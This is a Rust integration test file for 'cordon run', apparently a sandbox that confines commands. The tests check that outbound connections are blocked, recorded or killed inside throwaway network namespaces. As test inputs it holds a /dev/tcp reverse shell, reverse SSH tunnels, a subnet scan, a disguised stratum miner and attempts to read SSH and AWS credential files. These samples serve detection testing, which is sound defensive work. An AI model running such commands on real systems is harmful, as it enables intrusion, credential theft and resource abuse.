//! `cordon run` against real network namespaces. Each test builds its own
//! lab: a "lab" namespace where cordon runs (so the host's own network is
//! never touched) and an "outside" namespace joined to it by a veth pair,
//! running an SSH server, a fake stratum pool, a catch-all listener and an
//! HTTP server. Only 10.231.7.0/24 inside these namespaces is used; every
//! namespace is deleted when the test ends (Drop). Tests need root and
//! `ip netns`; without them they print why and pass as skipped.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant};

use serde_json::Value;

const LAB_IP: &str = "10.231.7.1";
const OUT_IP: &str = "10.231.7.2";

static SEQ: AtomicU32 = AtomicU32::new(0);

struct Lab {
    lab: String,
    out: String,
    dir: tempfile::TempDir,
    children: Vec<Child>,
}

fn sh(args: &[&str]) -> bool {
    Command::new(args[0])
        .args(&args[1..])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

/// A TCP server in Python that logs every connection and what it received,
/// and answers stratum's subscribe like a pool would.
const SERVER: &str = r#"
import socket, sys, threading, json
port, log = int(sys.argv[2]), sys.argv[3]
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], port)); s.listen(64)
def serve(c, a):
    with open(log, "a") as f: f.write(f"conn {a[0]}\n")
    c.settimeout(5)
    try:
        data = c.recv(4096)
        with open(log, "a") as f: f.write("data " + data.decode("latin-1") + "\n")
        if b"mining.subscribe" in data:
            c.sendall(json.dumps({"id": 1, "result": [[["mining.notify", "ae6812eb4cd7735a302a8a9dd95cf71f"]], "08000002", 4], "error": None}).encode() + b"\n")
            c.recv(4096)
    except Exception:
        pass
    c.close()
while True:
    c, a = s.accept()
    threading.Thread(target=serve, args=(c, a), daemon=True).start()
"#;

/// Started "indirectly": an innocent-looking test runner that spawns the bad behaviour.
const RUN_TESTS: &str = r#"
import subprocess, sys
OUT = sys.argv[1]
steps = [
    # A miner under an innocent name, through the proxy (refused destination: the proxy peeks).
    [sys.executable, "telemetry_sync.py", "proxy", OUT, "3333"],
    # The same miner ignoring the proxy.
    [sys.executable, "telemetry_sync.py", "direct", OUT, "3333"],
    # A reverse SSH tunnel, plain (ignores proxies) and through the proxy.
    ["ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "ConnectTimeout=3", "-N", "-R", "8080:localhost:22", "tester@" + OUT],
    ["ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "ConnectTimeout=3", "-o", "ProxyCommand=nc -X connect -x 127.0.0.1:3128 %h %p", "-N", "-R", "8080:localhost:22", "tester@" + OUT],
    # A /dev/tcp reverse shell.
    ["bash", "-c", f"exec 3<>/dev/tcp/{OUT}/4444 && bash -i <&3 >&3 2>&3"],
    # A scan of the test subnet.
    [sys.executable, "-c", "import socket\nfor h in range(1, 25):\n  s = socket.socket(); s.settimeout(0.2)\n  try: s.connect(('10.231.7.%d' % h, 22))\n  except OSError: pass\n  s.close()"],
]
for s in steps:
    try:
        subprocess.run(s, timeout=20, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except Exception as e:
        print("step failed", s[0], e)
print("run_tests done")
"#;

/// The "miner": speaks stratum to a pool, directly or through an HTTP CONNECT proxy.
const MINER: &str = r#"
import socket, json, sys
mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
try:
    if mode == "proxy":
        s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
        s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = s.recv(1)
            if not chunk: break
            head += chunk
        if b" 200 " not in head.split(b"\r\n")[0]:
            print("proxy refused"); sys.exit(0)
    else:
        s = socket.create_connection((host, port), timeout=5)
    s.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5.1"]}).encode() + b"\n")
    s.settimeout(5)
    print("pool said", s.recv(4096))
except OSError as e:
    print("miner failed", e)
"#;

impl Lab {
    /// `None` (with the reason printed) when this machine cannot host the lab.
    fn new() -> Option<Lab> {
        // SAFETY: geteuid has no preconditions.
        if unsafe { libc::geteuid() } != 0 {
            eprintln!("SKIP: cordon run tests need root (network namespaces)");
            return None;
        }
        let n = SEQ.fetch_add(1, Ordering::Relaxed);
        let id = format!("{}{}", std::process::id() % 100_000, n);
        let lab = Lab {
            lab: format!("cdlab{id}"),
            out: format!("cdout{id}"),
            // Not under /tmp: the sandbox gives the command a private /tmp.
            dir: tempfile::Builder::new()
                .prefix("cordon-run-")
                .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
                .unwrap(),
            children: Vec::new(),
        };
        let (va, vb) = (format!("cva{id}"), format!("cvb{id}"));
        let ok = sh(&["ip", "netns", "add", &lab.lab])
            && sh(&["ip", "netns", "add", &lab.out])
            && sh(&[
                "ip", "link", "add", &va, "type", "veth", "peer", "name", &vb,
            ])
            && sh(&["ip", "link", "set", &va, "netns", &lab.lab])
            && sh(&["ip", "link", "set", &vb, "netns", &lab.out])
            && lab.ip(
                &lab.lab,
                &["addr", "add", &format!("{LAB_IP}/24"), "dev", &va],
            )
            && lab.ip(
                &lab.out,
                &["addr", "add", &format!("{OUT_IP}/24"), "dev", &vb],
            )
            && lab.ip(&lab.lab, &["link", "set", &va, "up"])
            && lab.ip(&lab.out, &["link", "set", &vb, "up"])
            && lab.ip(&lab.lab, &["link", "set", "lo", "up"])
            && lab.ip(&lab.out, &["link", "set", "lo", "up"]);
        if !ok {
            eprintln!("SKIP: cannot create network namespaces and veth pairs here");
            return None;
        }
        Some(lab)
    }

    fn ip(&self, ns: &str, args: &[&str]) -> bool {
        let mut v = vec!["ip", "netns", "exec", ns, "ip"];
        v.extend_from_slice(args);
        sh(&v)
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn write(&self, name: &str, content: &str) -> PathBuf {
        let p = self.path(name);
        std::fs::write(&p, content).unwrap();
        p
    }

    fn spawn_in(&mut self, ns: &str, args: &[&str]) {
        let c = Command::new("ip")
            .args(["netns", "exec", ns])
            .args(args)
            .current_dir(self.dir.path())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        self.children.push(c);
    }

    /// A logging TCP server (and fake pool) on `ip:port` in namespace `ns`; its log file.
    fn tcp_server(&mut self, ns: &str, ip: &str, port: u16) -> PathBuf {
        let script = self.write("server.py", SERVER);
        let log = self.path(&format!("server-{port}.log"));
        std::fs::write(&log, "").unwrap();
        let (ns, s, l, p) = (
            ns.to_string(),
            script.display().to_string(),
            log.display().to_string(),
            port.to_string(),
        );
        self.spawn_in(&ns, &["python3", &s, ip, &p, &l]);
        self.wait_port(&ns, ip, port);
        log
    }

    fn http_server(&mut self) {
        let www = self.path("www");
        std::fs::create_dir_all(&www).unwrap();
        std::fs::write(www.join("index.txt"), "hello-from-outside\n").unwrap();
        let (out, w) = (self.out.clone(), www.display().to_string());
        self.spawn_in(
            &out,
            &[
                "python3",
                "-m",
                "http.server",
                "8000",
                "--bind",
                OUT_IP,
                "--directory",
                &w,
            ],
        );
        self.wait_port(&out, OUT_IP, 8000);
    }

    /// sshd in the outside namespace, logging connections; its log file, or None without sshd.
    fn ssh_server(&mut self) -> Option<PathBuf> {
        if !Path::new("/usr/sbin/sshd").exists() {
            eprintln!("note: no sshd (scripts/install_sandbox_test_deps.sh installs it); the SSH server side is not checked");
            return None;
        }
        let key = self.path("hostkey");
        if !sh(&[
            "ssh-keygen",
            "-q",
            "-t",
            "ed25519",
            "-N",
            "",
            "-f",
            key.to_str().unwrap(),
        ]) {
            return None;
        }
        let _ = std::fs::create_dir_all("/run/sshd");
        let log = self.path("sshd.log");
        std::fs::write(&log, "").unwrap();
        let (out, k, l) = (
            self.out.clone(),
            format!("HostKey={}", key.display()),
            log.display().to_string(),
        );
        self.spawn_in(
            &out,
            &[
                "/usr/sbin/sshd",
                "-D",
                "-f",
                "/dev/null",
                "-E",
                &l,
                "-o",
                &k,
                "-o",
                &format!("ListenAddress={OUT_IP}"),
                "-o",
                "LogLevel=VERBOSE",
                "-o",
                "PidFile=none",
                "-o",
                "UsePAM=no",
            ],
        );
        self.wait_port(&out, OUT_IP, 22);
        Some(log)
    }

    /// Wait until something listens, without connecting (servers log every connection).
    fn wait_port(&self, ns: &str, ip: &str, port: u16) {
        let probe = format!("for i in $(seq 200); do ss -Hltn 'sport = :{port}' | grep -q . && exit 0; sleep 0.05; done; exit 1");
        assert!(
            sh(&["ip", "netns", "exec", ns, "bash", "-c", &probe]),
            "server on {ip}:{port} did not come up"
        );
    }

    /// `cordon run ARGS` in the lab namespace, from the lab's directory (the workspace).
    fn cordon(&self, args: &[&str]) -> Output {
        self.cordon_with(args, |_| {})
    }

    fn cordon_with(&self, args: &[&str], f: impl FnOnce(&mut Command)) -> Output {
        let mut c = Command::new("timeout");
        c.args([
            "120",
            "ip",
            "netns",
            "exec",
            &self.lab,
            env!("CARGO_BIN_EXE_cordon"),
            "run",
        ])
        .args(args)
        .current_dir(self.dir.path());
        c.stdin(Stdio::null());
        f(&mut c);
        let out = c.output().unwrap();
        eprintln!(
            "--- cordon run {:?}: {:?}\nstdout: {}\nstderr: {}",
            args,
            out.status,
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        out
    }

    fn records(&self, file: &str) -> Vec<Value> {
        std::fs::read_to_string(self.path(file))
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).expect("each record line is JSON"))
            .collect()
    }
}

impl Drop for Lab {
    fn drop(&mut self) {
        for c in &mut self.children {
            let _ = c.kill();
            let _ = c.wait();
        }
        // Deleting a namespace ends its veth end, and so the pair. Processes
        // started with `ip netns exec` were killed above.
        sh(&["ip", "netns", "del", &self.lab]);
        sh(&["ip", "netns", "del", &self.out]);
    }
}

fn findings(recs: &[Value]) -> Vec<(String, String)> {
    recs.iter()
        .filter(|r| r["kind"] == "finding")
        .map(|r| {
            (
                r["detail"]["kind"].as_str().unwrap_or("").to_string(),
                r["detail"]["rule"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect()
}

fn has_finding(recs: &[Value], kind: &str, rule: &str) -> bool {
    findings(recs).iter().any(|(k, r)| k == kind && r == rule)
}

const POLICY: &str = r#"
[sandbox]
allow = ["10.231.7.2", "fake.test", "pool.test"]
ports = [8000]
[sandbox.hosts]
"fake.test" = "10.231.7.2"
"pool.test" = "10.231.7.2"
"#;

#[test]
fn allowed_fetch_works_through_the_proxy_and_exit_status_passes_through() {
    let Some(mut lab) = Lab::new() else { return };
    lab.http_server();
    lab.write("policy.toml", POLICY);
    let script = "curl -sS http://fake.test:8000/index.txt && curl -sS -x socks5h://127.0.0.1:1080 http://fake.test:8000/index.txt && \
                  python3 -c 'import urllib.request; print(urllib.request.urlopen(\"http://fake.test:8000/index.txt\").read().decode().strip(), \"via urllib\")' && \
                  getent hosts fake.test; getent hosts evil.example || echo nxdomain; echo to-stderr >&2; exit 7";
    let out = lab.cordon(&[
        "--policy",
        "policy.toml",
        "--episode",
        "ep-1",
        "--call",
        "call-1",
        "--record",
        "rec.jsonl",
        "--",
        "bash",
        "-c",
        script,
    ]);
    assert_eq!(out.status.code(), Some(7), "exit status passes through");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(stdout.matches("hello-from-outside").count(), 3, "{stdout}");
    assert!(stdout.contains("via urllib"));
    assert!(
        stdout.contains("10.231.7.2      fake.test") || stdout.contains("10.231.7.2 fake.test"),
        "DNS answered by Cordon: {stdout}"
    );
    assert!(stdout.contains("nxdomain"));
    assert!(String::from_utf8_lossy(&out.stderr).contains("to-stderr"));
    assert!(
        !String::from_utf8_lossy(&out.stderr).contains("cordon:"),
        "nothing found, nothing said"
    );
    let recs = lab.records("rec.jsonl");
    assert!(recs
        .iter()
        .all(|r| r["source"] == "sandbox" && r["session"] == "ep-1" && r["call_id"] == "call-1"));
    let allowed: Vec<&Value> = recs
        .iter()
        .filter(|r| r["kind"] == "connect" && r["action"] == "allowed")
        .collect();
    assert!(allowed.len() >= 3, "{allowed:?}");
    assert!(allowed
        .iter()
        .all(|r| r["dst"] == OUT_IP && r["dport"] == 8000 && r["bytes_in"].as_u64().unwrap() > 0));
    assert!(allowed.iter().any(|r| r["detail"]["via"] == "socks5"));
    assert!(recs.iter().any(|r| r["kind"] == "dns"
        && r["detail"]["query"] == "fake.test"
        && r["action"] == "allowed"));
    assert!(recs.iter().any(|r| r["kind"] == "dns"
        && r["detail"]["query"] == "evil.example"
        && r["detail"]["rcode"] == "NXDOMAIN"));
    let execs: Vec<&Value> = recs
        .iter()
        .filter(|r| r["kind"] == "process" && r["detail"]["event"] == "exec")
        .collect();
    assert!(
        execs.iter().any(|r| r["detail"]["argv"][0] == "curl"),
        "execs recorded"
    );
    assert!(execs
        .iter()
        .all(|r| r["detail"]["pid"].is_u64() && r["detail"]["ppid"].is_u64()));
    assert!(recs.iter().any(|r| r["kind"] == "process"
        && r["detail"]["event"] == "exit"
        && r["detail"]["exit_code"] == 7));
    assert!(findings(&recs).is_empty(), "{:?}", findings(&recs));
}

#[test]
fn tunnel_miner_reverse_shell_and_scan_started_from_python_are_refused_and_recorded() {
    let Some(mut lab) = Lab::new() else { return };
    let pool = lab.tcp_server(&lab.out.clone(), OUT_IP, 3333);
    let shell = lab.tcp_server(&lab.out.clone(), OUT_IP, 4444);
    let sshd = lab.ssh_server();
    lab.write("policy.toml", POLICY);
    lab.write("run_tests.py", RUN_TESTS);
    lab.write("telemetry_sync.py", MINER);
    // Monitor mode: every step runs, so every one is seen.
    let out = lab.cordon(&[
        "--policy",
        "policy.toml",
        "--mode",
        "monitor",
        "--record",
        "rec.jsonl",
        "--",
        "python3",
        "run_tests.py",
        OUT_IP,
    ]);
    assert_eq!(out.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&out.stdout).contains("run_tests done"));
    let recs = lab.records("rec.jsonl");
    let f = findings(&recs);
    assert!(
        has_finding(&recs, "CRYPTO_MINING", "sandbox.stratum"),
        "miner through the proxy: {f:?}"
    );
    // The finding names the process behind the proxied connection, whatever it is called.
    let mining = recs
        .iter()
        .find(|r| r["kind"] == "finding" && r["detail"]["kind"] == "CRYPTO_MINING")
        .unwrap();
    assert!(
        mining["detail"]["cmd"]
            .as_str()
            .unwrap_or("")
            .contains("telemetry_sync.py proxy"),
        "{mining}"
    );
    assert!(mining["detail"]["pid"].is_u64());
    assert!(
        has_finding(&recs, "REVERSE_TUNNEL", "sandbox.tunnel-direct-connect"),
        "ssh -R ignoring the proxy: {f:?}"
    );
    assert!(
        has_finding(&recs, "REVERSE_TUNNEL", "sandbox.tunnel-protocol"),
        "ssh -R through the proxy: {f:?}"
    );
    assert!(
        has_finding(&recs, "REVERSE_SHELL", "sandbox.shell-direct-connect"),
        "/dev/tcp: {f:?}"
    );
    assert!(
        has_finding(&recs, "NETWORK_RECON", "sandbox.scan"),
        "scan: {f:?}"
    );
    assert!(
        has_finding(&recs, "PROXY_BYPASS", "sandbox.direct-connect"),
        "direct miner: {f:?}"
    );
    // Every attempt toward the outside was refused and recorded...
    let to_out: Vec<&Value> = recs
        .iter()
        .filter(|r| r["kind"] == "connect" && r["dst"] == OUT_IP)
        .collect();
    assert!(
        to_out.iter().all(|r| r["action"] == "blocked"),
        "{to_out:?}"
    );
    for port in [3333, 22, 4444] {
        assert!(
            to_out.iter().any(|r| r["dport"] == port),
            "attempt on port {port} recorded"
        );
    }
    assert!(
        recs.iter()
            .any(|r| r["kind"] == "process" && r["detail"]["argv"][0] == "ssh"),
        "indirect execs recorded"
    );
    // ...and nothing reached the outside host.
    assert_eq!(
        std::fs::read_to_string(&pool).unwrap(),
        "",
        "the pool saw nothing"
    );
    assert_eq!(
        std::fs::read_to_string(&shell).unwrap(),
        "",
        "the reverse shell listener saw nothing"
    );
    if let Some(log) = sshd {
        let l = std::fs::read_to_string(log).unwrap();
        assert!(!l.contains("Connection from"), "sshd saw a connection: {l}");
    }
}

#[test]
fn block_mode_kills_the_tree_on_stratum_to_an_allowed_host_and_monitor_mode_does_not() {
    let Some(mut lab) = Lab::new() else { return };
    let pool = lab.tcp_server(&lab.out.clone(), OUT_IP, 3333);
    // The pool sits on an allowed host and port: only the protocol gives it away.
    lab.write(
        "policy.toml",
        &POLICY.replace("ports = [8000]", "ports = [8000, 3333]"),
    );
    lab.write("telemetry_sync.py", MINER);
    let script = "sleep 60 & python3 telemetry_sync.py proxy pool.test 3333; echo after-miner";
    let started = Instant::now();
    let out = lab.cordon(&[
        "--policy",
        "policy.toml",
        "--record",
        "block.jsonl",
        "--",
        "bash",
        "-c",
        script,
    ]);
    assert_eq!(out.status.code(), Some(137), "killed");
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "the background sleep died with the tree"
    );
    assert!(!String::from_utf8_lossy(&out.stdout).contains("after-miner"));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("cordon: CRYPTO_MINING") && stderr.contains("killed"),
        "{stderr}"
    );
    let recs = lab.records("block.jsonl");
    assert!(recs.iter().any(|r| r["kind"] == "finding"
        && r["action"] == "blocked"
        && r["detail"]["kind"] == "CRYPTO_MINING"));
    // The proxy had connected (the host is allowed), but the subscribe was cut before it was forwarded.
    assert!(
        !std::fs::read_to_string(&pool).unwrap().contains("mining"),
        "the pool never saw a stratum message"
    );

    let out = lab.cordon(&[
        "--policy",
        "policy.toml",
        "--mode",
        "monitor",
        "--record",
        "monitor.jsonl",
        "--",
        "bash",
        "-c",
        "python3 telemetry_sync.py proxy pool.test 3333; echo after-miner",
    ]);
    assert_eq!(out.status.code(), Some(0));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("pool said") && stdout.contains("after-miner"),
        "{stdout}"
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("cordon: CRYPTO_MINING"));
    let recs = lab.records("monitor.jsonl");
    assert!(recs.iter().any(|r| r["kind"] == "finding"
        && r["action"] == "alert"
        && r["detail"]["kind"] == "CRYPTO_MINING"));
    assert!(std::fs::read_to_string(&pool)
        .unwrap()
        .contains("mining.subscribe"));
}

#[test]
fn block_mode_stops_an_indirect_reverse_shell() {
    let Some(mut lab) = Lab::new() else { return };
    let shell = lab.tcp_server(&lab.out.clone(), OUT_IP, 4444);
    lab.write("policy.toml", POLICY);
    lab.write("run_tests.py", &format!("import subprocess\nsubprocess.run(['bash', '-c', 'exec 3<>/dev/tcp/{OUT_IP}/4444; bash -i <&3 >&3 2>&3'])\nimport time; time.sleep(30)\nprint('survived')\n"));
    let out = lab.cordon(&[
        "--policy",
        "policy.toml",
        "--record",
        "rec.jsonl",
        "--",
        "python3",
        "run_tests.py",
    ]);
    assert_eq!(out.status.code(), Some(137));
    assert!(!String::from_utf8_lossy(&out.stdout).contains("survived"));
    assert!(has_finding(
        &lab.records("rec.jsonl"),
        "REVERSE_SHELL",
        "sandbox.shell-direct-connect"
    ));
    assert_eq!(std::fs::read_to_string(&shell).unwrap(), "");
}

#[test]
fn nothing_reaches_the_lab_namespace_loopback() {
    let Some(mut lab) = Lab::new() else { return };
    let lab_ns = lab.lab.clone();
    let log = lab.tcp_server(&lab_ns, "127.0.0.1", 9999);
    let script = "curl -sS -m 3 http://127.0.0.1:9999/ ; curl -sS -m 3 --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:9999/ ; \
                  curl -sS -m 3 --noproxy '' -x http://127.0.0.1:3128 http://localhost:9999/ ; curl -sS -m 3 --noproxy '' -x socks5h://127.0.0.1:1080 http://127.0.0.1:9999/ ; \
                  (exec 3<>/dev/tcp/127.0.0.1/9999) ; (exec 3<>/dev/tcp/10.231.7.1/9999) ; \
                  python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", 9999), timeout=2)' ; exit 0";
    let out = lab.cordon(&[
        "--mode",
        "monitor",
        "--record",
        "rec.jsonl",
        "--",
        "bash",
        "-c",
        script,
    ]);
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(
        std::fs::read_to_string(&log).unwrap(),
        "",
        "the lab's loopback server saw nothing"
    );
    let recs = lab.records("rec.jsonl");
    assert!(
        recs.iter().any(|r| r["kind"] == "connect"
            && r["dport"] == 9999
            && r["detail"]["code"] == "internal"),
        "proxy refusal recorded"
    );
}

#[test]
fn landlock_and_mounts_hide_secrets_and_keep_writes_in_the_workspace() {
    let Some(lab) = Lab::new() else { return };
    let home = lab.path("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::create_dir_all(home.join(".aws")).unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "SECRET-SSH-KEY").unwrap();
    std::fs::write(home.join(".aws/credentials"), "SECRET-AWS").unwrap();
    std::fs::write(home.join("notes.txt"), "readable").unwrap();
    std::fs::write(home.join("extra-secret"), "SECRET-EXTRA").unwrap();
    let ws = lab.path("ws");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::write(lab.path(".env"), "SECRET-DOTENV").unwrap();
    std::fs::write("/tmp/cordon-run-test-host-tmp", "host tmp").unwrap();
    lab.write("policy.toml", "[sandbox]\nhidden = [\"~/extra-secret\"]\n");
    let script = "cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; cat ~/extra-secret; cat ../.env; cat ~/notes.txt; echo; \
                  echo w > written-in-workspace && echo ws-ok; echo x > ~/outside && echo home-write-ok; echo x > /etc/cordon-run-test && echo etc-write-ok; \
                  echo t > /tmp/in-tmp && echo tmp-ok; cat /tmp/cordon-run-test-host-tmp; exit 0";
    let out = lab.cordon_with(
        &[
            "--policy",
            "../policy.toml",
            "--workspace",
            ".",
            "--",
            "bash",
            "-c",
            script,
        ],
        |c| {
            c.current_dir(&ws).env("HOME", &home);
        },
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!stdout.contains("SECRET"), "secrets hidden: {stdout}");
    assert!(
        stdout.contains("readable"),
        "the rest of home is readable: {stdout}"
    );
    assert!(
        stdout.contains("ws-ok") && stdout.contains("tmp-ok"),
        "{stdout}"
    );
    assert!(
        !stdout.contains("home-write-ok") && !stdout.contains("etc-write-ok"),
        "{stdout}"
    );
    assert!(!stdout.contains("host tmp"), "/tmp is private: {stdout}");
    assert!(ws.join("written-in-workspace").exists());
    assert!(!Path::new("/etc/cordon-run-test").exists() && !home.join("outside").exists());
    assert!(!Path::new("/tmp/in-tmp").exists());
    let _ = std::fs::remove_file("/tmp/cordon-run-test-host-tmp");
}

#[test]
fn seccomp_denies_ptrace_mount_namespaces_and_raw_sockets() {
    let Some(lab) = Lab::new() else { return };
    let py = r#"
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
r = libc.ptrace(0, 0, 0, 0); print("ptrace", r, os.strerror(ctypes.get_errno()))
r = libc.unshare(0x40000000); print("unshare-net", r, os.strerror(ctypes.get_errno()))
r = libc.mount(b"none", b"/mnt", b"tmpfs", 0, None); print("mount", r, os.strerror(ctypes.get_errno()))
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print("raw ok")
except OSError as e: print("raw", e.strerror)
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print("packet ok")
except OSError as e: print("packet", e.strerror)
print("pid", os.getpid())
"#;
    lab.write("sc.py", py);
    let out = lab.cordon(&["--", "python3", "sc.py"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    for what in [
        "ptrace -1",
        "unshare-net -1",
        "mount -1",
        "raw Operation not permitted",
        "packet Operation not permitted",
    ] {
        assert!(stdout.contains(what), "{what}: {stdout}");
    }
    assert!(!stdout.contains(" ok"), "{stdout}");
}

#[test]
fn stdin_signals_and_the_store_pass_through() {
    let Some(lab) = Lab::new() else { return };
    let out = lab.cordon_with(&["--", "tr", "a-z", "A-Z"], |c| {
        c.stdin(
            std::fs::File::open({
                std::fs::write(lab.path("in.txt"), "piped input\n").unwrap();
                lab.path("in.txt")
            })
            .unwrap(),
        );
    });
    assert_eq!(String::from_utf8_lossy(&out.stdout), "PIPED INPUT\n");
    assert_eq!(out.status.code(), Some(0));
    // Death by a signal is passed on as one.
    let out = lab.cordon(&["--", "bash", "-c", "kill -TERM $$"]);
    use std::os::unix::process::ExitStatusExt;
    assert!(
        out.status.signal() == Some(15) || out.status.code() == Some(128 + 15),
        "{:?}",
        out.status
    );
    let out = lab.cordon(&["--", "no-such-command-anywhere"]);
    assert_eq!(out.status.code(), Some(127));
    // Records in the episode store.
    let db = lab.path("episodes.db");
    let out = lab.cordon(&[
        "--store",
        db.to_str().unwrap(),
        "--episode",
        "ep-9",
        "--call",
        "c-3",
        "--",
        "true",
    ]);
    assert_eq!(out.status.code(), Some(0));
    let store = cordon_store::Store::open_existing(&db).unwrap();
    let recs = store.net_events(None, None).unwrap();
    assert!(
        recs.iter().any(|r| r.kind == "process"
            && r.session.as_deref() == Some("ep-9")
            && r.call_id.as_deref() == Some("c-3")),
        "{recs:?}"
    );
}

#[test]
fn a_bad_sandbox_policy_names_its_line() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("p.toml");
    std::fs::write(&p, "[sandbox]\nports = [8000]\nallow = [\"10.0.0.0/99\"]\n").unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_cordon"))
        .args(["run", "--policy", p.to_str().unwrap(), "--", "true"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("line 3"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = Command::new(env!("CARGO_BIN_EXE_cordon"))
        .args(["policy", "check", p.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&out.stderr).contains(":3:"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn without_namespaces_the_policy_decides_refuse_or_degrade() {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 || !sh(&["setpriv", "--version"]) {
        eprintln!("SKIP: needs root and setpriv to run cordon as an unprivileged user");
        return;
    }
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::Builder::new()
        .prefix("cordon-np-")
        .tempdir_in("/var/tmp")
        .unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let bin = dir.path().join("cordon");
    std::fs::copy(env!("CARGO_BIN_EXE_cordon"), &bin).unwrap();
    std::fs::write(
        dir.path().join("degrade.toml"),
        "[sandbox]\non_missing = \"degrade\"\n",
    )
    .unwrap();
    let as_nobody = |args: &[&str]| {
        Command::new("setpriv")
            .args([
                "--reuid=65534",
                "--regid=65534",
                "--clear-groups",
                bin.to_str().unwrap(),
                "run",
            ])
            .args(args)
            .current_dir(dir.path())
            .env("HOME", dir.path())
            .output()
            .unwrap()
    };
    let out = as_nobody(&["--", "true"]);
    assert_eq!(out.status.code(), Some(125));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("namespaces") && err.contains("refusing"),
        "{err}"
    );
    let out = as_nobody(&[
        "--policy",
        "degrade.toml",
        "--record",
        "r.jsonl",
        "--",
        "bash",
        "-c",
        "echo x > /var/tmp/cordon-np-outside; exit 4",
    ]);
    assert_eq!(out.status.code(), Some(4));
    assert!(String::from_utf8_lossy(&out.stderr).contains("running degraded"));
    assert!(
        !Path::new("/var/tmp/cordon-np-outside").exists(),
        "Landlock still applies"
    );
    let recs = std::fs::read_to_string(dir.path().join("r.jsonl")).unwrap();
    assert!(recs.contains("\"degraded\":[\"namespaces"), "{recs}");
}
